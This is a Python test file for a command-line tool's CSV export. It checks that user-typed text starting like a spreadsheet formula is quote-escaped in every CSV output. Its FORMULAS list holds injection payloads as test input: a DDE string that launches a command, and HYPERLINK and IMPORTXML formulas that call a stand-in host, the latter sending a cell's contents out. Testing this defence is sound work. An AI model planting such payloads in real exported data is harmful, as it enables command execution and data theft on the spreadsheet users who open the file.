"""CSV output never hands a spreadsheet a formula: text people typed (notes, names, providers)
that starts like one (=, +, -, @, tab, return) is written with a leading quote, in every CSV
the tool writes: `zov export --format csv` (to a file and to standard output) and every read
command's `--format csv`."""

from __future__ import annotations

import csv
import io
import json

import click

from cli.main import cli

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = ['=HYPERLINK("http://x.invalid","klik")', "@SUM(1+1)", "+cmd|' /C calc'!A0",
            "-2+3", '=IMPORTXML(CONCAT("http://x.invalid/?",A1),"//a")', "=1+1"]


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_defused(text: str, where: str) -> set[str]:
    """No cell starts like a formula; returns the escaped cells (quote-prefixed)."""
    found = cells(text)
    assert found, where
    live = [c for c in found if c.startswith(FORMULA_START)]
    assert not live, (where, live)
    return {c[1:] for c in found if c.startswith("'") and c[1:].startswith(FORMULA_START)}


def csv_read_commands() -> list[list[str]]:
    """Every read command that offers --format csv and needs no argument."""
    found = []
    for name in cli.list_commands(None):
        command = cli.get_command(None, name)
        if isinstance(command, click.Group):
            continue
        params = {p.name: p for p in command.params}
        fmt = params.get("fmt")
        needs = [p for p in command.params if p.required]
        if fmt is not None and "csv" in getattr(fmt.type, "choices", ()) and not needs:
            found.append([name])
    return found


def test_csv_output_escapes_cells_a_spreadsheet_would_run(store_url, cli_runner, tmp_path):
    run = cli_runner(store_url)
    run("init")
    run("register", "C-0001", "-H", "MKD", "-g", "Stein", "--note", FORMULAS[0],
        "--by", FORMULAS[1])
    run("triage", "C-0001", "--outcome", "transfer", "--on", "2023-05-02", "--note", FORMULAS[4])
    run("assign", "C-0001", "-c", "Kracht van Dichtbij", "--aanbieder", FORMULAS[2],
        "--on", "2023-05-03", "--note", FORMULAS[3])
    run("place", "register", "PL-01", "--leefhuis", "LH-A", "--note", FORMULAS[5])
    sheet = tmp_path / "gebeurtenissen.csv"
    sheet.write_text('ref;event;on;planned;note\nC-0001;plan-handover;4-5-2023;1-12-2023;"=1+1"\n',
                     encoding="utf-8")
    run("apply", str(sheet))

    escaped: set[str] = set()
    escaped |= assert_defused(run("export", "--format", "csv").stdout, "export")
    target = tmp_path / "log.csv"
    run("export", "--format", "csv", "-o", str(target))
    escaped |= assert_defused(target.read_text(encoding="utf-8-sig"), "export -o")
    escaped |= assert_defused(run("show", "C-0001", "--format", "csv").stdout, "show")
    escaped |= assert_defused(run("place", "show", "PL-01", "--format", "csv").stdout,
                              "place show")
    commands = csv_read_commands()
    assert {"list", "counts", "compliance", "flow", "places"} <= {c[0] for c in commands}
    for command in commands:
        escaped |= assert_defused(run(*command, "--format", "csv").stdout, command[0])
    # What was typed came through, each formula defused rather than dropped.
    assert escaped >= {FORMULAS[1], FORMULAS[2], "=1+1"}, escaped
    typed = {value for row in csv.DictReader(io.StringIO(run("export", "--format", "csv").stdout))
             for value in json.loads(row["payload"]).values() if isinstance(value, str)}
    assert set(FORMULAS) <= typed  # inside the payload's JSON text, which starts with {
